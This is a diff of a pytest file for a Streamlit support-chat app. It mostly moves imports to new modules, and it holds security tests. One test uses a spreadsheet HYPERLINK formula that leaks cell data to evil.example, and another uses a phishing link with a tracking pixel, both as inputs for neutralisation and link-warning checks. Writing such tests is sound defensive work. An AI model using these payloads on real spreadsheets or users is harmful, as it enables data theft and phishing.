@@ -9,14 +9,14 @@ import pytest
 from streamlit.testing.v1 import AppTest
 
 from app_pages.widgets import product_line
+from base.paths import ROOT
+from base.settings import get_settings
 from chains.extractive import describe_product
-from core.embeddings import HashingEmbeddings
-from core.feedback import FeedbackStore
-from core.knowledge import KnowledgeBase
-from core.settings import get_settings
 from loaders.base import base_metadata, make_document
+from providers.embeddings import HashingEmbeddings
+from services.conversation_log import ConversationLog
+from services.knowledge import KnowledgeBase
 
-ROOT = Path(__file__).resolve().parents[2]
 APP = str(ROOT / "streamlit_app.py")
 
 
@@ -64,7 +64,7 @@ def test_the_chat_and_the_search_preview_show_a_missing_price_without_a_tracebac
     answer = " ".join(md.value for m in at.chat_message if m.name == "assistant" for md in m.markdown)
     assert "price of the Copperleaf Odd Kettle is not available" in answer
     assert any("price not available" in c.value for c in at.caption)
-    rows = FeedbackStore(get_settings().feedback_db).rows()
+    rows = ConversationLog(get_settings().feedback_db).rows()
     assert [r["question"] for r in rows] == ["Copperleaf Odd Kettle HP-ODD-1"]  # the question was logged
 
     import bcrypt
@@ -83,8 +83,8 @@ def test_the_chat_and_the_search_preview_show_a_missing_price_without_a_tracebac
 
 # -- file names ----------------------------------------------------------------------------------------------
 def test_a_long_non_ascii_upload_name_is_shortened_and_the_other_files_still_land() -> None:
-    from core.uploads import ingest_uploads
     from loaders.base import MAX_NAME_BYTES, safe_source_name
+    from services.uploads import ingest_uploads
 
     kb = KnowledgeBase(get_settings(), embeddings=HashingEmbeddings())
     long_name = "产品目录" * 30 + ".md"  # 123 characters, 363 bytes: over the 255-byte file-name limit
@@ -136,8 +136,8 @@ def test_cli_names_are_made_safe_like_uploads_and_no_file_is_skipped(tmp_path: P
 def test_sign_in_counts_are_true_while_other_attempts_are_still_checked(monkeypatch: pytest.MonkeyPatch) -> None:
     import threading
 
-    import core.auth
-    from core.auth import LoginLimiter
+    import services.auth
+    from services.auth import LoginLimiter
 
     entered, release = threading.Semaphore(0), threading.Event()
 
@@ -147,7 +147,7 @@ def test_sign_in_counts_are_true_while_other_attempts_are_still_checked(monkeypa
             assert release.wait(60)
         return False
 
-    monkeypatch.setattr(core.auth, "verify_password", verify)
+    monkeypatch.setattr(services.auth, "verify_password", verify)
     limiter = LoginLimiter(max_failures=5, lockout_seconds=60, clock=lambda: 0.0)
     results: list = []
     slow = [
@@ -194,7 +194,7 @@ def test_parser_limits_are_named_not_reported_as_a_crash(tmp_path: Path) -> None
     ],
 )
 def test_formula_cells_are_neutralised(cell: str) -> None:
-    from core.exports import neutralise_cell, neutralise_rows
+    from base.exports import neutralise_cell, neutralise_rows
 
     assert neutralise_cell(cell) == "'" + cell
     assert neutralise_rows([{"question": cell, "times": -3}]) == [{"question": "'" + cell, "times": -3}]
@@ -202,7 +202,7 @@ def test_formula_cells_are_neutralised(cell: str) -> None:
 
 @pytest.mark.parametrize("cell", ["Where is my order?", "2026-11-23", "50% off?", "'quoted'", "", "e=mc2"])
 def test_ordinary_cells_are_kept(cell: str) -> None:
-    from core.exports import neutralise_cell
+    from base.exports import neutralise_cell
 
     assert neutralise_cell(cell) == cell
 
@@ -211,7 +211,7 @@ def test_analytics_tables_hold_no_live_formula(app_env, monkeypatch: pytest.Monk
     import bcrypt
 
     formula = '=HYPERLINK("http://evil.example/leak?d="&C2,"Refund status")'
-    log = FeedbackStore(get_settings().feedback_db)
+    log = ConversationLog(get_settings().feedback_db)
     for n in range(3):
         log.rate(log.record(f"s{n}", formula, "Sorry...", [], "extractive", True), 0)
     log.record("s9", "@SUM(1,2)", "Sorry...", [], "extractive", True)
@@ -263,7 +263,7 @@ ALLOWED = ["harborandpine.example"]
     ],
 )
 def test_knowledge_is_rendered_as_text_except_links_to_the_shop(text: str, shown: str) -> None:
-    from core.links import render_safe
+    from base.links import render_safe
 
     assert render_safe(text, ALLOWED) == shown
 
@@ -271,7 +271,7 @@ def test_knowledge_is_rendered_as_text_except_links_to_the_shop(text: str, shown
 def test_staff_are_warned_at_upload_about_links_to_other_sites() -> None:
     import json
 
-    from core.uploads import ingest_uploads
+    from services.uploads import ingest_uploads
 
     kb = KnowledgeBase(get_settings(), embeddings=HashingEmbeddings())
     answer = "Use [our secure refund portal](http://evil.example/phish-login) ![](http://pixel.example/p.png)."
@@ -284,8 +284,8 @@ def test_staff_are_warned_at_upload_about_links_to_other_sites() -> None:
 
 # -- entries per file, and long ingests do not hold up staff --------------------------------------------------
 def test_a_file_with_too_many_entries_is_refused_with_the_number(tmp_path: Path) -> None:
-    from core.settings import Settings
-    from core.uploads import ingest_uploads
+    from base.settings import Settings
+    from services.uploads import ingest_uploads
 
     rows = "".join(f"Is part {n} in stock?,Yes part {n} ships today.\n" for n in range(200_000))
     body = ("question,answer\n" + rows).encode()  # the red team's 200,000-row FAQ (10.6 MB)
@@ -305,8 +305,8 @@ def test_staff_can_add_an_answer_while_a_long_upload_is_embedding(tmp_path: Path
     import json
     import threading
 
-    from core.settings import Settings
-    from core.uploads import add_faq_entry, ingest_uploads
+    from base.settings import Settings
+    from services.uploads import add_faq_entry, ingest_uploads
 
     class Gated(HashingEmbeddings):
         def __init__(self) -> None:
@@ -351,7 +351,7 @@ def test_staff_can_add_an_answer_while_a_long_upload_is_embedding(tmp_path: Path
 def test_decisions_on_held_passages_survive_a_reindex(tmp_path: Path) -> None:
     import json
 
-    from core.settings import Settings
+    from base.settings import Settings
 
     kb = KnowledgeBase(Settings(store_dir=tmp_path / "store", parse_isolation=False), embeddings=HashingEmbeddings(),
                        screen=False)  # fmt: skip
